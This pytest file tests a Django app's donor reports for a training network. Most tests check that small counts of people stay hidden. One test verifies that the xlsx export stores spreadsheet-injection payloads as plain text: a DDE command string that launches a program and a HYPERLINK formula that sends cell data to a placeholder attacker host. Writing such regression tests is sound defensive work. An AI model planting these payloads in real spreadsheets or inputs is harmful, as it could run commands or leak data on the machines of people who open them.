"""The donor report: what it counts, and what it hides to protect people."""

import datetime
import re

import pytest
from django.core.management import CommandError, call_command

from cascade.metrics.filters import Filters
from cascade.stories import report


@pytest.fixture
def network(create_training, create_person):
    women = [create_person() for _ in range(6)]
    institute = create_training(participants=women, start_date=datetime.date(2016, 3, 1))
    create_training(kind="step-down", source_training=institute, facilitators=women[:2],
                    start_date=datetime.date(2016, 5, 1), women_count=12, men_count=3)
    create_training(kind="step-down", source_training=institute, facilitators=women[2:3],
                    start_date=datetime.date(2017, 5, 1), women_count=9, men_count=0)
    return institute


def hidden(cell) -> bool:
    """Hidden so that a small count cannot be worked out: "*", or a range such as "130–139"."""
    return cell == "*" or bool(re.fullmatch(r"[\d,]+–[\d,]+", str(cell)))


def table(built, title):
    return next(t for t in built.tables if t.title == title)


def test_small_counts_of_people_are_suppressed_for_donors(network):
    built = report.build(Filters.parse(region="143"))
    [row] = table(built, "Women and men reached").rows
    assert row[1] == "<5"
    assert any(hidden(cell) for cell in (row[0], row[3])), "the three men cannot be worked out by subtraction"
    assert "<5" in built.subtitle


def test_staff_may_ask_for_exact_figures(network):
    built = report.build(Filters.parse(region="143"), exact=True)
    assert table(built, "Women and men reached").rows == [[27, 3, 0, 30]]


def test_trainings_are_counted_per_year_without_suppression(network):
    built = report.build(Filters.parse(region="143"))
    assert table(built, "Trainings per year").rows == [["2016", 1, 1, 2], ["2017", 0, 1, 1]]


def test_the_period_filter_narrows_the_report(network):
    built = report.build(Filters.parse(region="143", since="2017-01-01"))
    assert table(built, "Trainings per year").rows == [["2017", 0, 1, 1]]
    assert table(built, "Institutes").rows == []


def test_report_lists_the_institutes(network):
    built = report.build(Filters.parse(country="KZ"))
    [row] = table(built, "Institutes").rows
    assert row[1] == "Kazakhstan" and row[3] == 6


def test_a_partners_report_counts_its_cascade_and_says_it_is_not_additive(network, create_organization):
    swrc = create_organization(key="swrc")
    network.host = swrc
    network.save()
    built = report.build(Filters.parse(partner="swrc"), exact=True)
    assert table(built, "Trainings per year").rows == [["2016", 1, 1, 2], ["2017", 0, 1, 1]]
    assert "do not add up to the network" in built.subtitle
    assert "do not add up" not in report.build(Filters.parse(region="143"), exact=True).subtitle


def test_an_unknown_region_is_refused_by_name(db, tmp_path):
    with pytest.raises(CommandError, match="region: “Atlantis” is not a UN M49 sub-region"):
        call_command("report", "--region", "Atlantis", "--format", "pdf", "--output", str(tmp_path / "r.pdf"))


def test_the_xlsx_report_writes_typed_formulas_as_text_that_no_spreadsheet_runs(create_training, create_organization):
    import io
    import zipfile

    import openpyxl

    host = create_organization(name='@SUM(1+1)*cmd|" /C calc"!A0')
    create_training(city='=HYPERLINK("http://evil.example/?"&A1,"Click")', host=host,
                    start_date=datetime.date(2016, 3, 1))
    data = report.render(report.build(Filters.parse(country="KZ")), "xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no cell is a formula"
    cells = {cell.value: cell for sheet in openpyxl.load_workbook(io.BytesIO(data))
             for row in sheet.iter_rows() for cell in row}
    place = next(value for value in cells if isinstance(value, str) and value.startswith("=HYPERLINK"))
    host_cell = cells['@SUM(1+1)*cmd|" /C calc"!A0']
    assert place == '=HYPERLINK("http://evil.example/?"&A1,"Click"), Kazakhstan', "shown as typed"
    for cell in (cells[place], host_cell):
        assert cell.data_type == "s" and cell.quotePrefix, cell.value


@pytest.fixture
def demo(db):
    from cascade.demo.network import build_demo_network

    return build_demo_network()


def sheet_rows(built):
    """Every table sheet's rows (the first sheet says what the report covers), one after the other."""
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(report.to_xlsx(built)))
    rows = []
    for sheet in book.worksheets[1:]:
        rows += [list(row) for row in sheet.iter_rows(values_only=True)] + [[None]]
    return rows


def row_after(rows, title, label=None):
    """The first data row of the table titled ``title`` (or its row whose first cell is ``label``)."""
    start = next(i for i, row in enumerate(rows) if row[0] == title) + 2
    for row in rows[start:]:
        if row[0] is None:
            break
        if label is None or str(row[0]) == str(label):
            return row
    raise AssertionError(f"no row {label!r} in {title!r}")


def test_the_xlsx_headline_does_not_give_away_the_men_its_table_hides(demo):
    """Until September 2014 one man was reached. The women-and-men table hid him, but the
    headline's reach is the table's total: reach minus women minus others gave him away."""
    rows = sheet_rows(report.build(Filters.parse(until="2014-09-30")))
    women, men, other, total = row_after(rows, "Women and men reached")[:4]
    reach = row_after(rows, "Headline figures", "total reach (named people and head-counts)")[1]
    assert men == "<5"
    assert not all(isinstance(x, int) for x in (reach, women, other)), (reach, women, other)
    assert not all(isinstance(x, int) for x in (total, women, other))
    exact = sheet_rows(report.build(Filters.parse(until="2014-09-30"), exact=True))
    assert row_after(exact, "Women and men reached")[1] == 1
    assert row_after(exact, "Women and men reached")[3] == row_after(
        exact, "Headline figures", "total reach (named people and head-counts)")[1]


def test_a_generation_hidden_in_the_report_stays_hidden_in_its_headline_and_totals(demo):
    rows = sheet_rows(report.build(Filters.parse(since="2019-01-01")))
    second = row_after(rows, "Reach by generation", "2")
    assert second[2] == "<5"
    # generation 2's reach minus its head-counts would give its named people
    assert not (isinstance(second[3], int) and isinstance(second[4], int))
    # and the headline's reach minus the other generations' reach would give generation 2's reach
    reach = row_after(rows, "Headline figures", "total reach (named people and head-counts)")[1]
    start = next(i for i, row in enumerate(rows) if row[0] == "Reach by generation") + 2
    table = [row for row in rows[start:start + 20] if row[0] is not None]
    table = table[:next((i for i, row in enumerate(table) if not str(row[0]).isdigit()), len(table))]
    others = [row[4] for row in table if row[0] != 2]
    assert len(table) >= 2 and (second[4] == "<5" or hidden(second[4]))
    assert not all(isinstance(x, int) for x in [reach, *others])


def test_the_report_widens_a_donors_period_to_whole_quarters(demo):
    built = report.build(Filters.parse(since="2019-01-10", until="2019-01-11"))
    assert "Jan. 1, 2019 – March 31, 2019" in built.subtitle and "whole quarters" in built.subtitle


def test_the_report_says_what_it_covers_in_words_a_reader_knows(network, create_organization):
    swrc = create_organization(key="swrc", name="Shymkent Women's Resource Center")
    network.host = swrc
    network.save()
    built = report.build(Filters.parse(partner="swrc", country="KZ", until="2019-03-31"), exact=True)
    assert built.subtitle.startswith("Kazakhstan, Shymkent Women's Resource Center, period: until March 31, 2019")
    assert report.build(Filters(), exact=True).subtitle.startswith("The whole network")
